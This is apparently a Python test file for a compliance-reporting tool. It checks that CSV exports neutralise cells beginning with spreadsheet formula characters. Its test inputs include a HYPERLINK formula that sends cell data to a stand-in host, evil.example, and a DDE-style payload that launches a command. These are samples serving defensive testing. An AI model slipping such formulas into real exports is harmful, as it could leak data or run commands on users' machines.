"""CSV injection (issue 15 point 9): text cells that a spreadsheet would run as a formula are
neutralised per OWASP's CSV-injection guidance; numbers are never touched."""

from __future__ import annotations

import csv
import io

from regwatch.reporting import daily, filing, large_value
from regwatch.reporting.csv_cells import csv_bytes, safe_cell

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_text_starting_with_a_formula_character_is_quoted() -> None:
    for text in (FORMULA, "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "-"):
        assert safe_cell(text) == "'" + text
    for text in ("Wang Fang", "C1|2025-06-02|cash|credit", "", "a=b"):
        assert safe_cell(text) == text


def test_numbers_are_never_touched() -> None:
    for number in ("-12.00", "+5", "-0.5", "1e3", "-1E-2", "14812345312.16"):
        assert safe_cell(number) == number
    assert safe_cell(-12) == -12 and safe_cell(None) is None


def test_csv_bytes_neutralises_every_text_cell() -> None:
    data = csv_bytes(["name", "amount"], [[FORMULA, "-12.00"], ["Li Na", "3.00"]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    assert rows == [["name", "amount"], ["'" + FORMULA, "-12.00"], ["Li Na", "3.00"]]


def _day(name: str, amount: str) -> dict[str, object]:
    return {
        "report_key": "C1|2025-06-02",
        "customer_id": "C1",
        "customer_type": "individual",
        "full_name": name,
        "id_number": "110101********4477",
        "country": "CN",
        "transaction_date": "2025-06-02",
        "report_deadline": "2025-06-09",
        "lines_reached": "cash credit: CNY 50000.00 >= 50000.00",
        "transaction_count": 1,
        "amount_cny": amount,
        "transaction_ids": "T1",
        "has_missing_fx_rate": False,
        "unconverted_transaction_ids": "",
    }


def test_the_report_csv_writers_route_through_the_helper() -> None:
    content = {
        "business_date": "2025-06-02",
        "run_id": "20250602-abc",
        "customer_days": [_day(FORMULA, "-12.00")],
    }
    rows = list(csv.DictReader(io.StringIO(large_value._csv(content).decode("utf-8"))))
    assert rows[0]["full_name"] == "'" + FORMULA and rows[0]["amount_cny"] == "-12.00"

    alert = dict.fromkeys(daily.CSV_COLUMNS, "")
    alert.update(
        alert_key="AL-000000000001",
        entity_key="-1+1|2025-06-02",
        message=FORMULA,
        days_open=3,
        evidence_record={"full_name": FORMULA},
    )
    rows = list(csv.DictReader(io.StringIO(daily._csv([alert], "2025-06-02", "r").decode("utf-8"))))
    assert rows[0]["message"] == "'" + FORMULA and rows[0]["entity_key"] == "'-1+1|2025-06-02"
    assert rows[0]["days_open"] == "3"

    item = dict.fromkeys(
        ["id", "group", "breakdown", "unit", "numerator", "denominator", "definition"], "x"
    ) | {"label": "@partner", "value": "-12.00", "numerator_definition": None, "denominator_definition": None}
    document = {
        "period": {"id": "2025-06"},
        "as_of_date": "2025-06-30",
        "status": "final",
        "indicators": [item],
    }
    rows = list(csv.DictReader(io.StringIO(filing._csv(document).decode("utf-8"))))
    assert rows[0]["label"] == "'@partner" and rows[0]["value"] == "-12.00"
